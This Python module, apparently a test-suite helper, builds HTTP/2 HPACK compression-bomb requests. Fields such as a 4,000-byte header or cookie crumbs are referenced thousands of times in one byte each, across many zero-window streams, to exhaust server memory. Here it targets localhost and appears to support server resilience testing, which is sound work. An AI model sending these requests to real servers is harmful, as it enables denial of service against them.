"""Requests whose heads are much smaller on the wire than in memory (scenario B2)."""

from support.h2_client import PREFACE, SETTINGS_TYPE, frame

HEADERS, END_STREAM, END_HEADERS = 1, 1, 4
GET_HTTPS, POST_HTTPS = b"\x82\x87", b"\x83\x87"
NEWEST = b"\xbe"  # what was put into the dynamic table last, in one byte

BOMBS = {  # the field, how often it is said in one byte
    "references to a large field": ((b"x", b"v" * 4000), 14),
    "cookie crumbs": ((b"cookie", b"a=b"), 190),
    "thousands of cookie crumbs": ((b"cookie", b"a=b"), 5000),
}


def literal(index, text):
    return bytes([index]) + string(text)


def string(text):
    if len(text) < 127:
        return bytes([len(text)]) + text
    rest, length = len(text) - 127, b""
    while rest >= 128:
        length += bytes([rest & 127 | 128])
        rest >>= 7
    return b"\x7f" + length + bytes([rest]) + text


def throw_bombs(sock, path, bomb, streams):
    """GETs of `path` on so many streams, with every window at zero. `bomb`: of BOMBS."""
    (name, value), times = bomb
    head = GET_HTTPS + literal(1, b"localhost") + literal(4, path)
    first = head + b"\x40" + string(name) + string(value) + NEWEST * (times - 1)
    data = PREFACE + frame(SETTINGS_TYPE, 0, 0, b"\x00\x04\x00\x00\x00\x00")
    data += frame(HEADERS, END_STREAM | END_HEADERS, 1, first)
    for number in range(1, streams):
        data += frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, head + NEWEST * times)
    sock.sendall(data)
